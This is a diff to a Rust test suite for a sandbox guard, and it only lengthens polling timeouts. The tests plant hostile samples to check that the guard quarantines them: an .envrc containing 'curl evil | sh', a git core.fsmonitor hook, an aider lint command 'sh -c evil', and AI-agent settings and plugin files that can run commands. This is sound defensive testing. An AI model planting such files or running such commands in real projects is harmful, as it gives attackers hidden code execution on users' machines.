@@ -152,11 +152,11 @@ fn protected_paths_created_during_the_run_are_moved_aside_at_once() {
         // folder never finds it. The sandbox can see it go, too.
         let script = "echo 'curl evil | sh' > .envrc && echo created=$?; \
              mkdir -p .vscode && echo '{}' > .vscode/tasks.json; \
-             for i in $(seq 1 50); do [ -e .envrc ] || [ -e .vscode/tasks.json ] || break; sleep 0.1; done; \
+             for i in $(seq 1 300); do [ -e .envrc ] || [ -e .vscode/tasks.json ] || break; sleep 0.1; done; \
              [ -e .envrc ] && echo envrc=present || echo envrc=gone; \
              [ -e .vscode/tasks.json ] && echo tasks=present || echo tasks=gone; \
              mv .envrc.guard-quarantine-* .envrc 2>/dev/null; \
-             for i in $(seq 1 50); do [ -e .envrc ] || break; sleep 0.1; done; \
+             for i in $(seq 1 300); do [ -e .envrc ] || break; sleep 0.1; done; \
              [ -e .envrc ] && echo renamed_back=present || echo renamed_back=gone";
         let out = env.sh(script);
         out.expect_code(0);
@@ -523,9 +523,9 @@ fn repositories_made_during_the_run_are_checked_at_once() {
         env.own();
         let secret = home_canary(&env);
         // `gone NAME FILE`: prints NAME=gone once FILE has vanished (within
-        // 3 s), NAME=present otherwise.
+        // 30 s: a loaded machine), NAME=present otherwise.
         let out = env.sh(
-            "gone() { i=0; while [ -e \"$2\" ] && [ $i -lt 150 ]; do sleep 0.02; i=$((i+1)); done; \
+            "gone() { i=0; while [ -e \"$2\" ] && [ $i -lt 1500 ]; do sleep 0.02; i=$((i+1)); done; \
                       [ -e \"$2\" ] && echo $1=present || echo $1=gone; }; \
              sleep 0.8; \
              git init -q new && git -C new config core.fsmonitor 'touch /tmp/ran' && echo planted=1; \
@@ -771,7 +771,7 @@ fn agent_settings_that_run_commands_cannot_be_planted() {
              echo '{{\"mcpServers\":{{}}}}' > .mcp.json && echo mcp=created; \
              mkdir -p .opencode/plugin && echo 'export const x = 1' > .opencode/plugin/x.ts && echo plugin=created; \
              echo 'lint-cmd: sh -c evil' > .aider.conf.yml && echo aider=created; \
-             for i in $(seq 1 50); do [ -e .claude/settings.local.json ] || [ -e .mcp.json ] || [ -e .opencode/plugin ] || [ -e .aider.conf.yml ] || break; sleep 0.1; done; \
+             for i in $(seq 1 300); do [ -e .claude/settings.local.json ] || [ -e .mcp.json ] || [ -e .opencode/plugin ] || [ -e .aider.conf.yml ] || break; sleep 0.1; done; \
              ls -A . .claude .opencode"
         );
         let out = env.sh(&script);
